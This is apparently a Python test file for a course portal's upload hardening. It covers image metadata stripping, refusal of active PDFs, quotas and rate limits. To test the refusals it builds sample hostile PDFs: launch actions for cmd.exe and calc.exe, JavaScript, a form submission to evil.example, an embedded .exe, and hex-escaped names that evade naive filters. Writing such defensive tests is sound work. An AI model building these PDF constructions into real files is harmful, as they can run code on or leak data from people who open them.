"""Upload hardening: images re-encoded without metadata, active PDFs refused, a quota, a rate limit.

Every file is built here with Pillow or pypdf, as a scanner, a phone or an attacker would.
"""

from __future__ import annotations

import io
import random
import struct
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from course_portal.enrollment import documents
from course_portal.enrollment.errors import DocumentRefused
from course_portal.extensions import db as _db
from tests import factories
from tests.enrollment.helpers import text_of
from tests.enrollment.test_pages_teacher import application_form, file, sign_in

#: EXIF tags: Make, Model, Orientation, GPSInfo
MAKE, MODEL, ORIENTATION, GPS = 0x010F, 0x0110, 0x0112, 0x8825


def upload(draft, data: bytes, filename: str = "passport.jpg", kind: str = "passport"):
    return documents.store_document(draft, kind, filename, io.BytesIO(data), draft.teacher)


def stored(document) -> bytes:
    return documents.open_document(document).read_bytes()


def phone_photo(orientation: int = 1, size=(80, 40)) -> bytes:
    """A JPEG as a phone takes it: camera make and model, GPS position, an orientation."""
    image = Image.new("RGB", size, (250, 250, 250))
    image.paste((200, 0, 0), (0, 0, size[0] // 2, size[1]))  # left half red
    exif = Image.Exif()
    exif[MAKE] = "PhoneMaker"
    exif[MODEL] = "Model X 12"
    exif[ORIENTATION] = orientation
    exif.get_ifd(GPS).update({1: "N", 2: (59.0, 56.0, 30.0), 3: "E", 4: (30.0, 19.0, 0.0)})
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"taken at home", quality=95)
    return buffer.getvalue()


def png_with_text_and_tail() -> bytes:
    """A PNG with a text chunk naming its author and an HTML page glued after its end."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Wang Fang, passport 123456789")
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), (0, 120, 0)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue() + b"<p>appended after IEND</p>"


def pdf_with(tweak=None) -> bytes:
    """A real one-page PDF written by pypdf; tweak(writer) adds what a test needs."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if tweak is not None:
        tweak(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
                               NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = value
    return action


def open_action(kind: str, **entries):
    def tweak(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(
            _action(kind, **entries))
    return tweak


def page_additional_action(writer):
    """/AA on the page: runs when the page is opened."""
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(1)"))})


def embedded_file(writer):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")


def javascript_in_names(writer):
    """Document-level JavaScript, the way Acrobat stores it, behind an escaped name."""
    script = _action("/JavaScript", JS=TextStringObject("app.launchURL('http://evil.example')"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject(
        [TextStringObject("init"), writer._add_object(script)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)})


def goto_first_page(writer):
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")])


def page_with_text(writer):
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 24 Tf 72 720 Td (Diploma) Tj ET")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(content)


@pytest.fixture
def draft(db, intake):
    return factories.make_application(intake=intake, complete=False)


# --- images ---------------------------------------------------------------------------------


def test_a_phone_photo_loses_its_gps_position_camera_and_comment(db, draft):
    sent = phone_photo()
    assert b"PhoneMaker" in sent and b"taken at home" in sent

    document = upload(draft, sent)

    kept = stored(document)
    assert b"PhoneMaker" not in kept and b"Model X" not in kept and b"taken at home" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert dict(image.getexif()) == {}
        assert image.format == "JPEG" and image.size == (80, 40)
    assert document.size == len(kept)


def test_a_photo_taken_sideways_is_stored_upright(db, draft):
    """Orientation 6 (rotate 90°) is applied to the pixels before the tag is dropped."""
    document = upload(draft, phone_photo(orientation=6, size=(80, 40)))

    with Image.open(io.BytesIO(stored(document))) as image:
        assert image.size == (40, 80)
        red, white = image.getpixel((20, 10)), image.getpixel((20, 70))
    assert red[0] > 150 and red[1] < 80  # the red half is now on top
    assert min(white) > 200


def test_png_text_chunks_and_data_after_the_image_are_dropped(db, draft):
    document = upload(draft, png_with_text_and_tail(), "cv.png", "cv")

    kept = stored(document)
    assert b"Author" not in kept and b"passport 123456789" not in kept
    assert b"appended after IEND" not in kept
    assert kept.endswith(b"IEND\xaeB`\x82")
    with Image.open(io.BytesIO(kept)) as image:
        assert image.getpixel((5, 5)) == (0, 120, 0)


def test_a_truncated_png_is_refused_as_damaged(db, draft):
    buffer = io.BytesIO()
    noise = Image.frombytes("RGB", (300, 300), bytes(range(256)) * 1055)
    noise.save(buffer, "PNG")
    whole = buffer.getvalue()
    # cut inside the image data, then close the file so that it still looks complete
    cut = whole[: len(whole) // 2]
    iend = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND") & 0xFFFFFFFF)

    with pytest.raises(DocumentRefused) as caught:
        upload(draft, cut + iend, "cv.png", "cv")

    assert "damaged" in text_of(caught.value)


# --- PDFs -----------------------------------------------------------------------------------


@pytest.mark.parametrize("tweak", [
    open_action("/Launch", F=TextStringObject("cmd.exe")),
    open_action("/JavaScript", JS=TextStringObject("app.alert(1)")),
    open_action("/SubmitForm", F=TextStringObject("http://evil.example/collect")),
    page_additional_action,
    embedded_file,
    javascript_in_names,
], ids=["open-launch", "open-javascript", "submit-form", "page-aa", "embedded-file",
        "names-javascript"])
def test_pdfs_with_actions_scripts_or_attachments_are_refused(db, draft, tweak):
    data = pdf_with(tweak)

    with pytest.raises(DocumentRefused) as caught:
        upload(draft, data, "diploma.pdf", "diploma")

    assert "scripts, actions or attached files" in text_of(caught.value)
    assert draft.documents == []


def test_a_name_hidden_behind_hex_escapes_is_still_found(db, draft):
    """/J#61vaScript is /JavaScript to every PDF reader."""
    data = pdf_with(open_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    escaped = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in escaped

    with pytest.raises(DocumentRefused):
        upload(draft, escaped, "diploma.pdf", "diploma")


def test_escaped_names_in_a_pdf_without_a_cross_reference_table_are_found(db, draft):
    """A file pypdf cannot index (viewers repair it) is scanned name by name."""
    data = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Open#41ction << /S /L#61unch "
            b"/F (calc.exe) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")

    with pytest.raises(DocumentRefused):
        upload(draft, data, "diploma.pdf", "diploma")


@pytest.mark.parametrize("tweak", [None, goto_first_page, page_with_text],
                         ids=["blank", "open-at-first-page", "text"])
def test_ordinary_pdfs_are_accepted_byte_for_byte(db, draft, tweak):
    data = pdf_with(tweak)

    document = upload(draft, data, "diploma.pdf", "diploma")

    assert document.content_type == "application/pdf"
    assert stored(document) == data


def test_a_password_protected_pdf_is_refused_with_a_way_out(db, draft):
    data = pdf_with(lambda writer: writer.encrypt(user_password="secret", algorithm="AES-128"))

    with pytest.raises(DocumentRefused) as caught:
        upload(draft, data, "diploma.pdf", "diploma")

    assert "password" in text_of(caught.value)


# --- the quota --------------------------------------------------------------------------------


def noise_png(side: int) -> bytes:
    """A PNG that does not compress: about 3 × side² bytes."""
    buffer = io.BytesIO()
    pixels = random.Random(side).randbytes(3 * side * side)
    Image.frombytes("RGB", (side, side), pixels).save(buffer, "PNG")
    return buffer.getvalue()


def test_the_quota_counts_every_application_and_a_replacement_frees_its_space(make_app):
    app = make_app(UPLOAD_QUOTA_BYTES=40_000)
    with app.app_context():
        teacher = factories.make_teacher()
        first = factories.make_application(teacher=teacher, complete=False)
        second = factories.make_application(teacher=teacher, complete=False)
        big = noise_png(100)  # about 30 KB
        assert 25_000 < len(big) < 40_000
        upload(first, big, "cv.png", "cv")
        _db.session.commit()

        with pytest.raises(DocumentRefused) as caught:
            upload(second, big, "cv.png", "cv")  # another application of the same teacher
        message = text_of(caught.value)
        assert f"already take {-(-len(big) // 1024)} KB of the 40 KB you can store" in message
        assert "replace a document" in message

        # replacing the same document frees what it took
        replaced = upload(first, noise_png(90), "cv.png", "cv")
        _db.session.commit()
        assert documents.quota_used(teacher.id) == replaced.size

        # another teacher has a quota of their own
        other = factories.make_application(complete=False)
        assert upload(other, big, "cv.png", "cv").size == len(big)


def test_over_the_quota_the_page_says_so_and_keeps_what_was_typed(make_app):
    app = make_app(UPLOAD_QUOTA_BYTES=20_000)
    with app.app_context():
        teacher = factories.make_teacher()
        intake = factories.make_intake(factories.make_program())
        _db.session.commit()
        client = app.test_client()
        sign_in(client, teacher)
        typed = "我的动机：I want to learn about investment ecosystems. Моя мотивация."

        response = client.post(f"/intakes/{intake.id}/apply", data=application_form(
            "save", motivation=typed, files={"cv": file(noise_png(100), "cv.png")}))

        page = response.get_data(as_text=True)
        assert response.status_code == 200
        assert "of the 20 KB you can store" in page
        assert "我的动机" in page and "Моя мотивация" in page
        assert documents.quota_used(teacher.id) == 0


# --- the rate limit ---------------------------------------------------------------------------


def test_uploads_are_rate_limited_per_teacher_but_saving_text_is_not(make_app):
    app = make_app(RATELIMIT_ENABLED=True, UPLOAD_RATE_LIMIT="2 per hour")
    with app.app_context():
        teacher = factories.make_teacher()
        intake = factories.make_intake(factories.make_program())
        _db.session.commit()
        client = app.test_client()
        sign_in(client, teacher)
        url = f"/intakes/{intake.id}/apply"

        def post_file():
            return client.post(url, data=application_form(
                files={"diploma": file(pdf_with(), "diploma.pdf")}))

        assert post_file().status_code == 302
        assert post_file().status_code == 302
        limited = post_file()
        text_only = client.post(url, data=application_form())

        assert limited.status_code == 429
        assert int(limited.headers["Retry-After"]) > 0
        assert "try again" in limited.get_data(as_text=True)
        assert text_only.status_code == 302


@pytest.mark.redis
def test_the_upload_limit_is_shared_between_app_servers_through_redis(make_app, redis_url):
    from redis import Redis

    redis = Redis.from_url(redis_url)
    for key in redis.scan_iter("*enrollment.upload*"):  # counts left by an earlier run
        redis.delete(key)
    settings = {"RATELIMIT_ENABLED": True, "UPLOAD_RATE_LIMIT": "1 per hour",
                "REDIS_URL": redis_url}
    one, two = make_app(**settings), make_app(**settings)
    with one.app_context():
        teacher = factories.make_teacher()
        intake = factories.make_intake(factories.make_program())
        _db.session.commit()
        url = f"/intakes/{intake.id}/apply"
        clients = [one.test_client(), two.test_client()]
        for client in clients:
            sign_in(client, teacher)

    statuses = [c.post(url, data=application_form(
        files={"diploma": file(pdf_with(), "diploma.pdf")})).status_code for c in clients]

    assert statuses == [302, 429]
